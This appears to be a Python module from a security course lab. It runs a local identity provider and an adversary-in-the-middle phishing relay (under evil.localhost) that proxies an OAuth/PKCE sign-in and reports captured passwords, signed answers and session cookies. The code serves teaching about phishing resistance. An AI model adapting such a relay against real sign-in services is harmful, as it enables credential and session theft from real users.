"""Run `labutils relay`: the provider, and a phisher's relay in front of it, for a real browser.

There the browser itself refuses, and not this course.
"""

import base64
import hashlib
import io
import socket
from collections.abc import Callable, Iterable
from threading import Thread
from urllib.parse import urlencode
from wsgiref.types import StartResponse, WSGIEnvironment

import httpx
from werkzeug.exceptions import HTTPException, MisdirectedRequest
from werkzeug.serving import WSGIRequestHandler, make_server
from werkzeug.utils import redirect

from labutils.identity.course_provider import CALLBACK, product
from labutils.identity.serving import Server, read_body
from labutils.incident.relay import Relay
from labutils.lab import Lab

NAMES = ("evil.localhost", "localhost")  # a name of its own, and the provider's on another port
CHALLENGE = hashlib.sha256(b"a verifier that Tom made up, of forty-three characters").digest()
SIGN_IN = "/authorize?response_type=code&" + urlencode(
    {
        "client_id": "spa",
        "redirect_uri": CALLBACK,
        "scope": "openid",
        "code_challenge_method": "S256",
        "code_challenge": base64.urlsafe_b64encode(CHALLENGE).decode().rstrip("="),
    }
)


def loot(relay: Relay) -> str:
    """Return what the phisher has so far, in words."""
    has = {
        "the password": "password" in relay.typed,
        "a signed answer": "answer" in relay.typed,
        "a session": bool(relay.network.cookies),
    }
    return ", ".join(what for what, it in has.items() if it) or "nothing"


class Phisher:
    """A WSGI app: Tom's relay to `real` under each of these hosts.

    `/` is his link, and leads to the sign-in. What he has is said after each form that is sent.
    """

    def __init__(self, real: str, hosts: Iterable[str], say: Callable[[str], object] = print):
        self.say = say
        self.relays = {
            host: Relay(httpx.Client(trust_env=False), real, f"http://{host}") for host in hosts
        }

    def __call__(self, environ: WSGIEnvironment, start_response: StartResponse) -> Iterable[bytes]:
        try:
            body, relay = read_body(environ), self.relay_at(environ.get("HTTP_HOST", ""))
        except HTTPException as refusal:
            return refusal.get_response(environ)(environ, start_response)
        if environ["PATH_INFO"] == "/":
            return redirect(SIGN_IN)(environ, start_response)
        environ |= {"wsgi.input": io.BytesIO(body), "CONTENT_LENGTH": str(len(body))}
        answer = relay(environ, start_response)
        if environ["REQUEST_METHOD"] == "POST":
            self.say(f"{environ['HTTP_HOST']}: Tom has {loot(relay)}")
        return answer

    def relay_at(self, host: str) -> Relay:
        """Return the relay under this host.

        Raises MisdirectedRequest (RFC 9110, 15.5.20) for another.
        """
        if host not in self.relays:
            raise MisdirectedRequest(f"Tom's links lead to {' and '.join(self.relays)}.")
        return self.relays[host]


class Quiet(WSGIRequestHandler):
    """A connection that logs nothing to the terminal."""

    def log(self, type: str, message: str, *args: object) -> None:
        """Write nothing."""


def serve_relay(port: int, say: Callable[[str], object] = print) -> None:
    """Serve the provider at this port of localhost and the relay at the next, until interrupted.

    With port 0, both are any free ones.

    Raises OSError where a port is taken.
    """
    with (
        socket.create_server(("localhost", port)) as for_provider,
        socket.create_server(("localhost", port and port + 1)) as for_relay,
    ):
        real = f"http://localhost:{for_provider.getsockname()[1]}"
        hosts = [f"{name}:{for_relay.getsockname()[1]}" for name in NAMES]
        provider = Server(for_provider, product(Lab(), real))
        relay = make_server(
            "localhost",
            for_relay.getsockname()[1],
            Phisher(real, hosts, say),
            threaded=True,
            request_handler=Quiet,
            fd=for_relay.fileno(),
        )
        Thread(target=provider.serve_forever, daemon=True).start()
        say(f"your key:    {real}/keys  (ada, lab-password)")
        say(f"Tom's links: {'  '.join(f'http://{host}/' for host in hosts)}")
        try:
            relay.serve_forever()
        finally:
            provider.shutdown()
